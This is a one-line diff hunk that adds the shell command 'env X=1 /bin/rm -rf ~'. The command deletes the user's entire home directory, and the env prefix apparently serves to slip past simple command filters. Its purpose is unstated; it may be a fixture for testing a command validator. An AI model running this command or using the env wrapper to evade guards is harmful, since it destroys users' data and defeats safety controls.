@@ -1,0 +1,1 @@
+env X=1 /bin/rm -rf ~
